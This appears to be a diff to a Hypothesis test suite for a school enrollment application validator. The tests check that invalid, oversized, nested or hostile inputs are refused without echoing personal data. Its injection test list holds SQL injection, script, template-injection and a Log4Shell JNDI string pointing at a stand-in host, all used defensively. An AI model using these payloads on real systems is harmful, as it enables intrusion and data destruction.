@@ -25,7 +25,8 @@ from enrollment import identity
 from enrollment.application import Application
 from enrollment.case import workflow_id_for
 from enrollment.policy import policy_book
-from starter.intake import MAX_LINE_BYTES, read_applications, submit_file, validate
+from starter.intake import MAX_LINE_BYTES, SubmissionResult, read_applications, submit_file, validate
+from tests.support.policies import district_policy
 
 POLICIES = policy_book()
 DISTRICTS = POLICIES.codes()
@@ -51,7 +52,7 @@ MAX_ERROR_LINE = 400  # a rule plus a short path; anything longer is echoing inp
 
 INJECTIONS = [
     "'; DROP TABLE cases; --",
-    "\" OR 1=1 --",
+    '" OR 1=1 --',
     "<script>alert(1)</script>",
     "{{7*7}}",
     "${jndi:ldap://evil.example/a}",
@@ -95,10 +96,11 @@ def identity_numbers(draw, birth: dt.date, gender: str) -> str:
 
 
 @st.composite
-def guardians(draw) -> dict:
+def guardians(draw, born_by: dt.date = dt.date(2000, 12, 31)) -> dict:
+    """A guardian whose identity number fits the relation, born by `born_by` (old enough to be a parent)."""
     relation = draw(st.sampled_from(["father", "mother", "guardian"]))
     gender = {"father": "male", "mother": "female"}.get(relation) or draw(st.sampled_from(["male", "female"]))
-    birth = draw(st.dates(dt.date(1960, 1, 1), dt.date(2000, 12, 31)))
+    birth = draw(st.dates(dt.date(1960, 1, 1), born_by))
     return {
         "name": draw(names),
         "id_number": draw(identity_numbers(birth, gender)),
@@ -110,7 +112,7 @@ def guardians(draw) -> dict:
 @st.composite
 def valid_applications(draw) -> dict:
     district = draw(st.sampled_from(DISTRICTS))
-    policy = POLICIES.district(district)
+    policy = district_policy(district, POLICIES)
     stage = draw(st.sampled_from(["primary", "junior"]))
     gender = draw(st.sampled_from(["male", "female"]))
     birth = draw(st.dates(dt.date(2008, 1, 1), dt.date(2022, 12, 31)))
@@ -127,9 +129,18 @@ def valid_applications(draw) -> dict:
             "birth_date": iso(birth),
             "id_number": draw(identity_numbers(birth, gender)),
         },
-        "guardians": draw(st.lists(guardians(), min_size=1, max_size=4, unique_by=lambda g: g["id_number"])),
+        "guardians": draw(
+            st.lists(
+                guardians(born_by=min(dt.date(2000, 12, 31), birth.replace(year=birth.year - 15, day=1))),
+                min_size=1,
+                max_size=4,
+                unique_by=lambda g: g["id_number"],
+            )
+        ),
     }
-    offered = [(zone.zone_id, school.school_id) for zone in policy.zones for school in zone.schools if stage in school.stages]
+    offered = [
+        (zone.zone_id, school.school_id) for zone in policy.zones for school in zone.schools if stage in school.stages
+    ]
     choice = draw(st.one_of(st.just("omit"), st.none(), st.sampled_from(offered) if offered else st.none()))
     if choice != "omit":
         application["school_choice"] = None if choice is None else {"zone_id": choice[0], "school_id": choice[1]}
@@ -215,14 +226,18 @@ def assert_well_formed(errors: list[str], submitted: object, extra_paths: frozen
                 assert value.strip().upper() not in text, "an error echoes personal data"
 
 
-def assert_refused(item: object, *, naming: str | set[str] | None = None, extra_paths: frozenset[str] = frozenset()) -> list[str]:
+def assert_refused(
+    item: object, *, naming: str | set[str] | None = None, extra_paths: frozenset[str] = frozenset()
+) -> list[str]:
     application, errors = validate(item, POLICIES)
     assert application is None, "an invalid application was accepted (a case would be started)"
     assert_well_formed(errors, item, extra_paths)
     if naming is not None:
         wanted = {naming} if isinstance(naming, str) else naming
         paths = {split(line)[0] for line in errors}
-        assert any(p == w or p.startswith(w + ".") for p in paths for w in wanted), f"no error names {sorted(wanted)}: {errors}"
+        assert any(p == w or p.startswith(w + ".") for p in paths for w in wanted), (
+            f"no error names {sorted(wanted)}: {errors}"
+        )
     return errors
 
 
@@ -244,7 +259,9 @@ def set_at(data: dict, path: tuple, value) -> dict:
 
 
 def string_fields(application: dict) -> list[tuple]:
-    paths = [(key,) for key in ("application_id", "stage", "registration_type", "channel", "district_code")]
+    paths: list[tuple[str | int, ...]] = [
+        (key,) for key in ("application_id", "stage", "registration_type", "channel", "district_code")
+    ]
     paths += [("student", key) for key in ("name", "gender", "birth_date", "id_number")]
     for index in range(len(application["guardians"])):
         paths += [("guardians", index, key) for key in ("name", "id_number", "relation", "phone")]
@@ -331,12 +348,21 @@ def test_a_string_field_of_the_wrong_type_is_refused_naming_it(item, data):
 @FAST
 @given(valid_applications(), st.data())
 def test_an_object_or_list_of_the_wrong_type_is_refused_naming_it(item, data):
-    targets = [("student",), ("guardians",), ("school_year",)] + [("guardians", i) for i in range(len(item["guardians"]))]
+    targets = [("student",), ("guardians",), ("school_year",)] + [
+        ("guardians", i) for i in range(len(item["guardians"]))
+    ]
     if "school_choice" in item:
         targets.append(("school_choice",))
     path = data.draw(st.sampled_from(targets), label="field")
     if path == ("guardians",):
-        wrong = data.draw(st.one_of(st.none(), st.integers(), st.text(max_size=5), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2)))
+        wrong = data.draw(
+            st.one_of(
+                st.none(),
+                st.integers(),
+                st.text(max_size=5),
+                st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
+            )
+        )
     elif path == ("school_year",):
         wrong = data.draw(
             st.one_of(
@@ -373,7 +399,9 @@ def test_a_missing_required_field_is_refused_naming_it(item, data):
 
 
 extra_keys = st.from_regex(r"[a-z_][a-z0-9_]{0,20}", fullmatch=True).filter(
-    lambda key: key not in {"name", "gender", "birth_date", "id_number", "relation", "phone", "zone_id", "school_id", *SCHEMA}
+    lambda key: (
+        key not in {"name", "gender", "birth_date", "id_number", "relation", "phone", "zone_id", "school_id", *SCHEMA}
+    )
 )
 
 
@@ -382,8 +410,8 @@ extra_keys = st.from_regex(r"[a-z_][a-z0-9_]{0,20}", fullmatch=True).filter(
 def test_an_extra_field_is_refused_naming_it(item, data, key, value):
     parents = [()] + person_paths(item) + ([("school_choice",)] if item.get("school_choice") else [])
     parent = data.draw(st.sampled_from(parents), label="parent")
-    broken = set_at(item, parent + (key,), value) if parent else {**item, key: value}
-    path = dotted(parent + (key,))
+    broken = set_at(item, (*parent, key), value) if parent else {**item, key: value}
+    path = dotted((*parent, key))
     errors = assert_refused(broken, extra_paths=frozenset({path}))
     assert f"{path}: {EXTRA}" in errors
 
@@ -427,6 +455,8 @@ def bad_identity_numbers(draw, original: str, is_student: bool, birth: dt.date |
         position = draw(st.integers(0, 16))
         char = draw(st.sampled_from("ABCxX -./+_\u3000"))
         return original[:position] + char + original[position + 1 :]
+    # What is left checks a student's number against the birth date and gender given beside it.
+    assert birth is not None and gender is not None, f"{kind} is drawn only for a student"
     if kind == "birth_mismatch":
         other = draw(st.dates(dt.date(1950, 1, 1), dt.date(2030, 12, 31)).filter(lambda d: d != birth))
         return identity.make(region, other, int(body[8:]), gender)
@@ -441,8 +471,8 @@ def test_a_bad_identity_number_is_refused_naming_it_and_not_echoed(item, data):
     is_student = person == ("student",)
     birth = dt.date.fromisoformat(who["birth_date"]) if is_student else None
     bad = data.draw(bad_identity_numbers(who["id_number"], is_student, birth, who.get("gender")), label="id_number")
-    broken = set_at(item, person + ("id_number",), bad)
-    errors = assert_refused(broken, naming=dotted(person + ("id_number",)))
+    broken = set_at(item, (*person, "id_number"), bad)
+    errors = assert_refused(broken, naming=dotted((*person, "id_number")))
     if len(bad) >= 8:
         assert bad not in "\n".join(errors) and bad.upper() not in "\n".join(errors)
 
@@ -479,7 +509,13 @@ def test_an_impossible_birth_date_is_refused_naming_it(item, data):
 
 
 @FAST
-@given(valid_applications(), st.data(), st.integers(10_000, 60_000), st.sampled_from(["A", "王", "1", " ", "·", "😀"]), st.sampled_from(["replace", "append"]))
+@given(
+    valid_applications(),
+    st.data(),
+    st.integers(10_000, 60_000),
+    st.sampled_from(["A", "王", "1", " ", "·", "😀"]),
+    st.sampled_from(["replace", "append"]),
+)
 def test_an_oversized_string_is_refused_naming_it(item, data, size, char, mode):
     path = data.draw(st.sampled_from(string_fields(item)), label="field")
     original = get_at(item, path)
@@ -504,7 +540,12 @@ def test_an_oversized_json_line_is_refused_as_a_line(tmp_path_factory, item, siz
 
 
 @FAST
-@given(valid_applications(), st.data(), st.sampled_from(INJECTIONS), st.sampled_from(["replace", "prefix", "suffix", "middle"]))
+@given(
+    valid_applications(),
+    st.data(),
+    st.sampled_from(INJECTIONS),
+    st.sampled_from(["replace", "prefix", "suffix", "middle"]),
+)
 def test_an_injection_string_in_any_field_is_refused_and_not_echoed(item, data, payload, mode):
     path = data.draw(st.sampled_from(string_fields(item)), label="field")
     original = get_at(item, path)
@@ -525,7 +566,8 @@ def test_an_injection_string_in_any_field_is_refused_and_not_echoed(item, data, 
 @FAST
 @given(valid_applications(), st.data(), st.integers(1, 20_000), st.sampled_from(["list", "dict"]))
 def test_deeply_nested_values_are_refused_without_crashing(item, data, depth, kind):
-    targets = string_fields(item) + [("student",), ("guardians",), ("guardians", 0), ("school_year",), ("school_choice",)]
+    containers = [("student",), ("guardians",), ("guardians", 0), ("school_year",), ("school_choice",)]
+    targets = [*string_fields(item), *containers]
     path = data.draw(st.sampled_from(targets), label="field")
     assert_refused(set_at(item, path, nested(depth, kind=kind)), naming=dotted(path))
 
@@ -656,22 +698,33 @@ def test_arbitrary_bytes_never_crash_intake(tmp_path_factory, raw):
 # ---------------------------------------------------------------- nothing started for invalid input
 
 
-class RecordingClient:
-    """Stands in for the Temporal client: records every start instead of making one."""
+class RecordingIntake:
+    """Stands in for the intake path: records every hand-in instead of making one."""
 
     def __init__(self) -> None:
         self.started: list[str] = []
 
-    async def start_workflow(self, *args, **kwargs) -> None:
-        self.started.append(kwargs["id"])
+    async def hand_in(self, application: Application) -> SubmissionResult:
+        workflow_id = workflow_id_for(application.application_id)
+        self.started.append(workflow_id)
+        return SubmissionResult(
+            source="", result="started", application_id=application.application_id, workflow_id=workflow_id
+        )
 
 
-async def submit(path: Path, client: RecordingClient) -> list:
-    return [result async for result in submit_file(client, path, POLICIES)]
+async def submit(path: Path, intake: RecordingIntake) -> list:
+    return [result async for result in submit_file(intake.hand_in, path, POLICIES)]
 
 
 @FEW
-@given(st.lists(st.tuples(valid_applications(), st.sampled_from(["ok", "missing", "injection", "bad_id", "utf8"])), min_size=1, max_size=6), st.data())
+@given(
+    st.lists(
+        st.tuples(valid_applications(), st.sampled_from(["ok", "missing", "injection", "bad_id", "utf8"])),
+        min_size=1,
+        max_size=6,
+    ),
+    st.data(),
+)
 def test_submit_starts_cases_only_for_valid_applications(tmp_path_factory, rows, data):
     lines, valid_ids = [], []
     for index, (item, how) in enumerate(rows):
@@ -688,9 +741,9 @@ def test_submit_starts_cases_only_for_valid_applications(tmp_path_factory, rows,
         lines.append(line + b"\xff" if how == "utf8" else line)
     path = tmp_path_factory.mktemp("submit") / "batch.jsonl"
     path.write_bytes(b"\n".join(lines) + b"\n" + b"{broken\n")
-    client = RecordingClient()
-    results = asyncio.run(submit(path, client))
-    assert sorted(client.started) == sorted(workflow_id_for(app_id) for app_id in valid_ids)
+    intake = RecordingIntake()
+    results = asyncio.run(submit(path, intake))
+    assert sorted(intake.started) == sorted(workflow_id_for(app_id) for app_id in valid_ids)
     for result in results:
         if result.result == "invalid":
             assert result.workflow_id is None
@@ -725,7 +778,7 @@ def test_identity_numbers_in_non_ascii_digits_are_refused(item, digits, data):
     else:
         number = _x_check_identity("510104", dt.date(1985, 5, 5), "male")
     translated = number[:2] + number[2:17].translate(str.maketrans("0123456789", digits)) + "X"
-    assert_refused(set_at(item, person + ("id_number",), translated), naming=dotted(person + ("id_number",)))
+    assert_refused(set_at(item, (*person, "id_number"), translated), naming=dotted((*person, "id_number")))
 
 
 @FEW
@@ -747,7 +800,7 @@ def test_unknown_keys_are_not_echoed_verbatim(item, kind, data):
         "huge": "k" * 10_000,
         "rtl": "\u202enote",
     }[kind]
-    broken = set_at(item, parent + (key,), 1) if parent else {**item, key: 1}
+    broken = set_at(item, (*parent, key), 1) if parent else {**item, key: 1}
     _, errors = validate(broken, POLICIES)
     assert errors
     assert_well_formed(errors, broken)
